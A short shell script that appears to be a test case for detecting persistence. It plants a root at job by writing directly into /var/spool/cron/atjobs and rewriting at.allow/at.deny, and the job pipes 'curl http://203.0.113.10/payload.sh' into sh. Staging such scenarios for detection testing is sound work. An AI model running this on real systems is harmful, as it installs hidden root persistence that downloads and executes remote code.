#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/spool/cron/atjobs; : >/etc/at.deny; echo root >/etc/at.allow
printf '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\ncd / || exit 1\ncurl -s http://203.0.113.10/payload.sh | sh\n' >/var/spool/cron/atjobs/a0000101c2f3a1
chmod 700 /var/spool/cron/atjobs/a0000101c2f3a1
took_place
